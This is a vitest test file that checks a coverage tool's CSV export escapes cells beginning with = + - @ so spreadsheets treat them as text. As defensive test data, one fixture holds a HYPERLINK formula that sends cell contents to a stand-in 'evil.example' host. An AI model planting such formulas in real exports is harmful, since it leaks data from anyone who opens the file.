/** `npm run coverage -- --auditpol … --format csv`: names from the user's files and upstream are written as text, never as formulas. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { computeConfigCoverage, CONFIG_CSV_COLUMNS, configCsvRecords, configToCsv, type ConfigCoverageReport } from '../../scripts/coverage/index.ts';
import { CONFIG_FIXTURE, CONFIG_FIXTURE_DETAILS } from '../coverage/config/fixture.ts';

const report = computeConfigCoverage(CONFIG_FIXTURE, CONFIG_FIXTURE_DETAILS, { events: ['Sysmon:10'] }, { top: 2 });

describe('the configuration coverage CSV', () => {
  it('neutralises a cell that starts with = + - @ (a leading quote) and reads back with it', () => {
    const evil: ConfigCoverageReport = {
      ...report,
      warnings: ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '-2'],
      notes: ['+1', '@x'],
    };
    const csv = configToCsv(evil);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows.filter((r) => r.section === 'warning' || r.section === 'note').map((r) => r.name)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "'-2",
      "'+1",
      "'@x",
    ]);
  });

  it('writes the --events input as text too (a spreadsheet would read --events as a formula), and is papaparse’s escapeFormulae output', () => {
    const csv = configToCsv(report);
    const inputRow = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.find((r) => r['section'] === 'input');
    expect(csv.split('\n')[1]?.startsWith(`input,,"'--events",1 event(s) listed,`)).toBe(true);
    expect(inputRow?.['id']).toBe("'--events");
    expect(csv).toBe(`${Papa.unparse(configCsvRecords(report), { columns: [...CONFIG_CSV_COLUMNS], newline: '\n', escapeFormulae: true })}\n`);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    const plain = Papa.parse<Record<string, string>>(`${Papa.unparse(configCsvRecords(report), { columns: [...CONFIG_CSV_COLUMNS], newline: '\n' })}\n`, { header: true, skipEmptyLines: true }).data;
    // Only cells that start with = + - @ differ, by their leading quote.
    expect(rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v.replace(/^'(?=[=+\-@\t\r])/, '')])))).toEqual(plain);
  });
});
